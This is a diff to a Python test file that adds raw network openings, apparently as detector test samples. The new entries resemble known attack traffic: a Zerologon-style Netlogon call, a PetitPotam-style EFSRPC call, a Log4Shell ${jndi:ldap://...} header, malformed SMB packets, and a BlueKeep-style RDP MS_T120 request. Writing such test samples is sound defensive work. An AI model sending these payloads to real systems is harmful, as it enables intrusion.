@@ -2,7 +2,7 @@
 
 from base64 import b64encode
 
-from tests.kit import files, logons, wire
+from tests.kit import files, logons, procedures, wire
 from tests.kit.associations import ECHO, IMAGES, accepted, rejected, requested
 from tests.kit.handshakes import hello, recorded, server_name
 from tests.kit.scapy_layers import layer
@@ -38,6 +38,19 @@ def _bind() -> bytes:
     size = 16 + len(body) + len(verifier)
     head = b"\5\0\x0b\3\x10\0\0\0" + size.to_bytes(2, "little")
     return head + len(_NTLM).to_bytes(2, "little") + b"\1\0\0\0" + body + verifier
+
+
+def _procedure() -> bytes:
+    """Give an interface that is bound, and a procedure of it that is called at once."""
+    stub = procedures.authenticate(bytes(8))
+    return procedures.bind(procedures.NETLOGON) + procedures.call(26, stub)
+
+
+def _pipe() -> bytes:
+    stub = procedures.text(r"\\192.0.2.7\share\a")
+    return procedures.written(procedures.bind(procedures.EFSRPC)) + procedures.exchanged(
+        procedures.call(0, stub)
+    )
 
 
 def _ldap() -> bytes:
@@ -84,6 +97,8 @@ OPENINGS: tuple[tuple[int, int, bytes], ...] = (
     (ANY, 445, _share()),
     (ANY, 445, files.session(files.opens("a\\photo.jpg"))),
     (ANY, 135, _bind()),
+    (ANY, 49_670, _procedure()),
+    (ANY, 445, _pipe()),
     (ANY, 389, _ldap()),
     (ANY, 1433, _sspi()),
     (22, ANY, b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n"),
@@ -94,6 +109,10 @@ OPENINGS: tuple[tuple[int, int, bytes], ...] = (
     (23, ANY, b"\xff\xfd\x18\xff\xfd\x20"),
     (3306, ANY, b"\x4a\0\0\0\x0a8.0.36\0" + bytes(60)),
     (5900, ANY, b"RFB 003.008\n"),
+    (ANY, 80, b"GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://a}\r\n\r\n"),
+    (ANY, 445, procedures.exchanged1(b"", pipe=0, what=0x23)),
+    (ANY, 445, b"\0\0\0\x30\xfcSMB" + b"\xff" * 44),
+    (ANY, 3389, b"\3\0\0\x21\2\xf0\x80\x7f\x65\x14" + bytes(10) + b"MS_T120\0" + bytes(4)),
     (ANY, 3389, b"\3\0\0\x13\x0e\xe0\0\0\0\0\0\1\0\x08\0\3\0\0\0"),
     (3389, ANY, b"\3\0\0\x13\x0e\xd0\0\0\x12\x34\0\2\0\x08\0\2\0\0\0"),
     (502, ANY, _modbus()),
